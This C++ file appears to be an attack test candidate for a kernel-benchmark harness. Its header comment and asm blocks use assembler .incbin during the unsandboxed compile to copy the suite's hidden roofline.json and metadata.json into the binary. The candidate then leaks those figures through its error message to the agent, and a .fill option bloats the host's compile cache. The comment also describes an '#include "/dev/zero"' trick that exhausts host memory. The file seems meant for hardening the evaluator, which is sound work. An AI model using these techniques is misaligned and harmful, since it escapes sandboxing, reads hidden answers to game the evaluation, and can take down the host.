// ATTACKS the host through the compiler (attack round 3): Gate 1 runs the system C++ compiler on
// the candidate's source outside every sandbox (runner/src/compile.cpp: run_subprocess with the
// runner's own environment, user, working folder and file system, no rlimits, no cgroup). The
// assembler's `.incbin` copies any file the runner's user can read into the shared object, where
// the candidate reads it at run time, inside the sandbox, out of its own .rodata. Here: the
// suite's hidden roofline.json and metadata.json of rms_norm (docs/evaluation.md "Threat model":
// "files ... roofline.json, metadata.json ... out of reach"), found at ATREX_ATTACK_SUITE (the
// test writes the suite's path there; the default, /proc/self/cwd/problems/atrex-bench, is
// what `atrex eval` run from a checkout sees). The candidate fails the shape with a report
// carrying the hidden figures of its own shape (SOL_time_ms for H20, the shape's description),
// which the record's error hands to whoever reads the records (the agent):
//   `hidden roofline.json bytes=N shape=S sol_ms_H20=V metadata.json bytes=M description=...`
// ATTACK_FILL_MIB N > 0 also has the assembler write N MiB of filler into the object (.fill):
// the compile cache on the host gets an object of N MiB, past the 64 MiB RLIMIT_FSIZE every
// evaluation child has (nothing bounds the compiler's output, its memory or its disk).
// Not in this file, on purpose: a one-line candidate `#include "/dev/zero"` makes cc1plus read a
// file that never ends into a buffer it doubles (under `ulimit -v 600000`: "cc1plus: out of memory
// allocating 1073741840 bytes"); with no limit on the compiler it takes the host's memory within
// seconds, before the compile timeout.
//   ATTACK_READ 0 (and ATTACK_FILL_MIB 0): the honest twin, the same kernel with no .incbin.
#include <cmath>
#include <cstdio>
#include <cstring>
#include <string>

#include "atrex/candidate.h"

#define ATTACK_READ 1
#define ATTACK_FILL_MIB 0
#define ATREX_ATTACK_SUITE "/proc/self/cwd/problems/atrex-bench"

#define ATTACK_STR2(x) #x
#define ATTACK_STR(x) ATTACK_STR2(x)

#if ATTACK_READ
asm(".pushsection .rodata\n"
    ".balign 16\n"
    "attack_roofline:\n"
    ".incbin \"" ATREX_ATTACK_SUITE "/data/rms_norm/roofline.json\"\n"
    ".byte 0\n"
    ".balign 16\n"
    "attack_metadata:\n"
    ".incbin \"" ATREX_ATTACK_SUITE "/data/rms_norm/metadata.json\"\n"
    ".byte 0\n"
    ".popsection\n");
extern "C" const char attack_roofline[] asm("attack_roofline");
extern "C" const char attack_metadata[] asm("attack_metadata");
#endif
#if ATTACK_FILL_MIB > 0
asm(".pushsection .data\n"
    ".globl attack_fill\n"
    "attack_fill:\n"
    ".fill " ATTACK_STR(ATTACK_FILL_MIB) " * 1048576, 1, 0x41\n"
    ".popsection\n");
extern "C" const char attack_fill[] asm("attack_fill");
#endif

static float bf16_to_float(uint16_t h) {
  uint32_t u = static_cast<uint32_t>(h) << 16;
  float f;
  std::memcpy(&f, &u, 4);
  return f;
}

static uint16_t float_to_bf16(float f) {
  uint32_t u;
  std::memcpy(&u, &f, 4);
  if ((u & 0x7fffffffu) > 0x7f800000u) return static_cast<uint16_t>((u >> 16) | 0x40u);
  u += 0x7fffu + ((u >> 16) & 1u);
  return static_cast<uint16_t>(u >> 16);
}

static std::string g_message;
ATREX_CANDIDATE_EXPORT const char* atrex_candidate_error_message() { return g_message.c_str(); }

// The text after `"key"` and the next `marker` inside the shape's object of a suite JSON file,
// up to the first of `stop` (crude, enough for the suite's flat layout).
static std::string field_of_shape(const char* json, const std::string& shape_id,
                                  const std::string& marker, const char* stop) {
  const std::string text(json);
  const auto shape = text.find("\"" + shape_id + "\": {");
  if (shape == std::string::npos) return "?";
  const auto at = text.find(marker, shape);
  if (at == std::string::npos) return "?";
  const auto begin = at + marker.size();
  const auto end = text.find_first_of(stop, begin);
  return text.substr(begin, end == std::string::npos ? 80 : std::min<size_t>(end - begin, 120));
}

ATREX_CANDIDATE_EXPORT int atrex_candidate_run(const AtrexLaunch* launch) {
  const DLTensor* x = atrex_input(launch, "x");
  const DLTensor* w = atrex_input(launch, "weight");
  const DLTensor* out = atrex_output(launch, "out");
  if (!x || !w || !out || x->ndim != 2) return 1;
  const int64_t rows = x->shape[0], hidden = x->shape[1];
  const float eps = static_cast<float>(atrex_param_float(launch, "eps", 1e-6));
  const auto* xs = static_cast<const uint16_t*>(x->data);
  const auto* ws = static_cast<const uint16_t*>(w->data);
  auto* os = static_cast<uint16_t*>(out->data);
  for (int64_t r = 0; r < rows; ++r) {
    float ss = 0;
    for (int64_t h = 0; h < hidden; ++h) {
      const float v = bf16_to_float(xs[r * hidden + h]);
      ss += v * v;
    }
    const float inv = 1.0f / std::sqrt(ss / static_cast<float>(hidden) + eps);
    for (int64_t h = 0; h < hidden; ++h) {
      os[r * hidden + h] =
          float_to_bf16(bf16_to_float(xs[r * hidden + h]) * inv * bf16_to_float(ws[h]));
    }
  }
#if ATTACK_READ
  const std::string id = launch->shape_id ? launch->shape_id : "";
  if (id.rfind("unseen", 0) == 0) return 0;  // the suite has no figures for those: pass them
  char head[128];
  std::snprintf(head, sizeof head, "hidden roofline.json bytes=%zu shape=%s sol_ms_H20=",
                std::strlen(attack_roofline), id.c_str());
  g_message = head;
  g_message += field_of_shape(attack_roofline, id, "\"H20\": ", ",}\n");
  g_message += " metadata.json bytes=" + std::to_string(std::strlen(attack_metadata));
  g_message += " description=" + field_of_shape(attack_metadata, id, "\"description\": \"", "\"");
#if ATTACK_FILL_MIB > 0
  g_message += " fill_bytes_in_object=" +
               std::to_string(static_cast<size_t>(ATTACK_FILL_MIB) << 20) + " first=" +
               std::string(1, attack_fill[0]);
#endif
  return 1;
#else
  return 0;
#endif
}
